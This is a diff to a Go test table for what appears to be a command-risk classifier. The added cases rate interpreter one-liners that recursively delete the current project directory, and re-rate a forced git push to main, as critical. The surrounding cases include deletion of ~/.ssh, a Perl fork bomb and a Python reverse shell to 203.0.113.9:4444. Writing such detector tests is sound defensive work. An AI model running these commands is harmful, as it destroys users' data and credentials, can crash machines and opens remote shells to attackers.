@@ -53,12 +53,17 @@ func TestInterpreterLevels(t *testing.T) {
 		// A home folder: what rm -rf ~/.ssh gets.
 		{`python3 -c "import shutil, os; shutil.rmtree(os.path.join(os.path.expanduser('~'), '.ssh'))"`, "high"},
 		{`node -e "require('fs').rmSync(process.env.HOME + '/.ssh', {recursive:true})"`, "high"},
+		// The current directory is the project: rm -rf "$PWD".
+		{`python3 -c 'import shutil, os; shutil.rmtree(os.getcwd())'`, "critical"},
+		{`node -e "require('fs').rmSync(process.cwd(), {recursive: true, force: true})"`, "critical"},
+		{`ruby -e 'require "fileutils"; FileUtils.rm_rf(Dir.pwd)'`, "critical"},
+		{`python3 -c 'import shutil, os; shutil.rmtree(os.path.join(os.getcwd(), "build"))'`, "low"},
 		// A build folder: what rm -rf build gets, not more.
 		{`python3 -c "import shutil; shutil.rmtree('build')"`, "low"},
 		{`node -e "require('fs').rmSync('dist', {recursive: true, force: true})"`, "low"},
 		{`ruby -e 'require "fileutils"; FileUtils.rm_rf("tmp/cache")'`, "low"},
 		{`pwsh -NoProfile -c 'Remove-Item -Recurse -Force ./bin'`, "low"},
-		{`python3 -c "import subprocess; subprocess.check_call(['git', 'push', '--force', 'origin', 'main'])"`, "low"},
+		{`python3 -c "import subprocess; subprocess.check_call(['git', 'push', '--force', 'origin', 'main'])"`, "critical"}, // as the shell form
 		// What has no shell form, and what cannot be read.
 		{`perl -e 'fork while fork'`, "critical"},
 		{`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`, "critical"},
